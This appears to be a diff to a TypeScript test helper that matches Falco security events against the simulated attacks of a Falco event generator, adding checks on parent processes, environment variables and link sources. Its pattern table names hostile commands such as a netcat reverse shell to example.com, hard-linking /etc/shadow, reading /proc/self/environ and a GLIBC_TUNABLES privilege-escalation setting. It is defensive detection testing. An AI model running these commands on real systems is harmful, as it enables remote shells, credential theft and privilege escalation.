@@ -10,16 +10,80 @@ export function isDeedOf(action: string, event: FalcoEvent): boolean {
   const deed = deeds.get(action)
   const line = field(event, 'proc.cmdline')
   if (!deed || line === undefined || !(deed.line ?? itself).test(line)) return false
-  const objects = objectFields.flatMap((name) => field(event, name) ?? [])
-  const { object } = deed
-  if (object === undefined) return objects.length === 0
-  return objects.every((one) => object.test(one)) && (objects.length > 0 || deed.line !== undefined)
+  return isStartedBy(deed, event) && isSetUpFor(deed, event) && isDoneTo(deed, event)
 }
 
-/** `line` undefined: the generator does it itself. `object` undefined: nothing is opened, linked or spoken to. */
-type Deed = { readonly line?: RegExp; readonly object?: RegExp }
+/** Whether what the action does is known here to the letter. */
+export function isKnownDeed(action: string): boolean {
+  return deeds.has(action)
+}
 
-const objectFields = ['fd.name', 'evt.arg.path', 'evt.arg.filename', 'evt.arg.newpath', 'evt.arg.linkpath'] as const
+/** The fields whose values the action fixes, in an event that shows it: what they look like is the action's own doing. */
+export function fixedBy(action: string): readonly string[] {
+  const deed = deeds.get(action)
+  return [...(deed?.line ? ['proc.cmdline'] : []), ...(deed?.parent ? ['proc.pcmdline', 'proc.pname'] : [])]
+}
+
+/** Whether a value names a file of the action: events/syscall/*.go makes them as falco-event-generator-syscall-<Action>-<random>. */
+export function isFileOf(action: string, value: string): boolean {
+  const name = madeFile.exec(value)?.[1]
+  return name !== undefined && (name === action || (name === 'SshDirectory' && inSshDirectory.has(action)))
+}
+
+export const madeFile = /falco-event-generator-(?:syscall|k8saudit)-([A-Za-z0-9]{2,80})-/
+
+/** createSshDirectoryUnderHome names the directory after itself. */
+const inSshDirectory: ReadonlySet<string> = new Set(['AddingSshKeysToAuthorizedKeys', 'ReadSshInformation'])
+
+/** Whether a command line is a run of the generator itself. */
+export function isGeneratorLine(line: string): boolean {
+  return itself.test(line)
+}
+
+function isStartedBy({ parent }: Deed, event: FalcoEvent): boolean {
+  return parent === undefined || parent.test(field(event, 'proc.pcmdline') ?? '')
+}
+
+/** Not every rule tells the environment. Where it does, the action's own setting is there, and none that loads a library or leads elsewhere. */
+function isSetUpFor({ setting }: Deed, event: FalcoEvent): boolean {
+  const told = field(event, 'proc.env')
+  if (told === undefined) return true
+  const environment = ` ${told} `
+  if (setting !== undefined && !environment.includes(` ${setting} `)) return false
+  const rest = setting === undefined ? environment : environment.replace(` ${setting} `, ' ')
+  return !/\bLD_\w+=|(?<!\bno)_proxy=|glibc/i.test(rest)
+}
+
+function isDoneTo({ line, object, source }: Deed, event: FalcoEvent): boolean {
+  const objects = valuesOf(event, objectFields)
+  const sources = valuesOf(event, sourceFields)
+  if (!sources.every((one) => (source ?? object)?.test(one))) return false
+  if (object === undefined) return objects.length === 0
+  return objects.every((one) => object.test(one)) && (objects.length + sources.length > 0 || line !== undefined)
+}
+
+/** What a process finds under its own number, it would find under `self`. */
+function valuesOf(event: FalcoEvent, names: readonly string[]): readonly string[] {
+  const own = `/proc/${field(event, 'proc.pid')}/`
+  return names.flatMap((name) => field(event, name)?.replace(own, '/proc/self/') ?? [])
+}
+
+/**
+ * `line` undefined: the generator does it itself. `object` undefined: nothing is opened, linked or spoken to. `source`: what is linked, where
+ * that is not the object. `parent`: the parent's command line. `setting`: what it sets in the environment.
+ */
+type Deed = {
+  readonly line?: RegExp
+  readonly object?: RegExp
+  readonly source?: RegExp
+  readonly parent?: RegExp
+  readonly setting?: string
+}
+
+/** `evt.arg.name`: the path given to open, openat and unlinkat. */
+export const objectFields = ['fd.name', 'evt.arg.path', 'evt.arg.name', 'evt.arg.filename', 'evt.arg.newpath', 'evt.arg.linkpath'] as const
+/** What link, rename and symlink start from. */
+const sourceFields = ['evt.arg.oldpath', 'evt.arg.target'] as const
 
 /** Its own command line; Falco begins a command line with the name of the process. */
 const itself = /^event-generator(?: --?[a-z][\w-]*(?:[= ]\w+)?)* (?:run|test|bench)(?: [\w.^$|*:=/-]+)*$/
@@ -49,6 +113,7 @@ const deeds: ReadonlyMap<string, Deed> = new Map<string, Deed>([
     {
       line: made('CreateHardlinkOverSensitiveFiles', `ln -v /etc/shadow ${temporary}`, '/shadow_link'),
       object: made('CreateHardlinkOverSensitiveFiles', temporary, '/shadow_link'),
+      source: /^\/etc\/shadow$/,
     },
   ],
   ['CreateHiddenFilesOrDirectories', { object: made('CreateHiddenFilesOrDirectories', String.raw`${temporary}\.`) }],
@@ -57,6 +122,7 @@ const deeds: ReadonlyMap<string, Deed> = new Map<string, Deed>([
     {
       line: made('CreateSymlinkOverSensitiveFiles', `ln -s /etc ${temporary}`, '/etc_link'),
       object: made('CreateSymlinkOverSensitiveFiles', temporary, '/etc_link'),
+      source: /^\/etc$/,
     },
   ],
   ['DbProgramSpawnedProcess', { line: /^ls$/ }],
@@ -64,10 +130,8 @@ const deeds: ReadonlyMap<string, Deed> = new Map<string, Deed>([
   ['DecodingPayloadInContainer', { line: /^echo [A-Za-z0-9+/=]+ \| base64 -d$/ }],
   ['DeleteOrRenameShellHistory', { object: made('DeleteOrRenameShellHistory', temporary, '/ash_history') }],
   ['DetectCryptoMinersUsingTheStratumProtocol', { line: /^echo -o stratum\+tcp -u user -p pass$/ }],
-  [
-    'DetectReleaseAgentFileContainerEscapes',
-    { line: /^sh -c echo 'hello world' > release_agent$/, object: /^(?!\/(?:sys|proc)\/).*\/release_agent$/ },
-  ],
+  // It writes where it was started: the image starts it in the root directory.
+  ['DetectReleaseAgentFileContainerEscapes', { line: /^sh -c echo 'hello world' > release_agent$/, object: /^(?:\.?\/)?release_agent$/ }],
   ['DirectoryTraversalMonitoredFileRead', { object: shadow }],
   ['DisallowedSSHConnectionNonStandardPort', { line: /^ssh user@example\.com -p 443$/, object: /->\S+:443$/ }],
   ['ExecutionFromDevShm', { line: made('ExecutionFromDevShm', 'sh -c /dev/shm/', String.raw`\.sh`) }],
@@ -85,14 +149,21 @@ const deeds: ReadonlyMap<string, Deed> = new Map<string, Deed>([
   ['ModifyBinaryDirs', { object: made('ModifyBinaryDirs', String.raw`/bin/true\.`) }],
   ['ModifyShellConfigurationFile', { object: made('ModifyShellConfigurationFile', temporary, String.raw`/\.bashrc`) }],
   ['MountLaunchedInPrivilegedContainer', { line: /^mount -o$/ }],
+  ['NetcatRemoteCodeExecutionInContainer', { line: /^nc -e \/bin\/sh example\.com 22$/, object: /->\S+:22$/ }],
   ['NonSudoSetuid', { line: spawned('child', 'syscall.NonSudoSetuid') }],
   ['PacketSocketCreatedInContainer', {}],
   ['PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034', { line: /^pkexec$/ }],
-  ['PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse', { line: /^sh -c id$/ }],
-  ['ProgramRunWithDisallowedHttpProxyEnv', { line: /^curl http:\/\/example\.com$/ }],
+  [
+    'PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse',
+    {
+      line: /^sh -c id$/,
+      setting: 'GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2',
+    },
+  ],
+  ['ProgramRunWithDisallowedHttpProxyEnv', { line: /^curl http:\/\/example\.com$/, setting: 'HTTP_PROXY=http://my.http.proxy.com' }],
   ['PtraceAntiDebugAttempt', {}],
   ['PtraceAttachedToProcess', {}],
-  ['ReadEnvironmentVariableFromProcFiles', { line: /^cat \/proc\/self\/environ$/, object: /^\/proc\/(?:self|\d+)\/environ$/ }],
+  ['ReadEnvironmentVariableFromProcFiles', { line: /^cat \/proc\/self\/environ$/, object: /^\/proc\/self\/environ$/ }],
   ['ReadSensitiveFileTrustedAfterStartup', { line: spawned('httpd', 'syscall.ReadSensitiveFileUntrusted'), object: shadow }],
   ['ReadSensitiveFileUntrusted', { object: shadow }],
   ['ReadShellConfigurationFile', { object: made('ReadShellConfigurationFile', temporary, String.raw`/\.bashrc`) }],
@@ -101,7 +172,7 @@ const deeds: ReadonlyMap<string, Deed> = new Map<string, Deed>([
     'RemoveBulkDataFromDisk',
     { line: made('RemoveBulkDataFromDisk', `shred -u ${temporary}`), object: made('RemoveBulkDataFromDisk', temporary) },
   ],
-  ['RunShellUntrusted', { line: /^sh -c ls > \/dev\/null$/ }],
+  ['RunShellUntrusted', { line: /^sh -c ls > \/dev\/null$/, parent: spawned('httpd', 'helper.RunShell') }],
   ['ScheduleCronJobs', { line: /^crontab -l$/ }],
   ['SearchPrivateKeysOrPasswords', { line: /^find (?:\/[\w.-]+)+ -maxdepth 1 -iname id_rsa$/ }],
   [
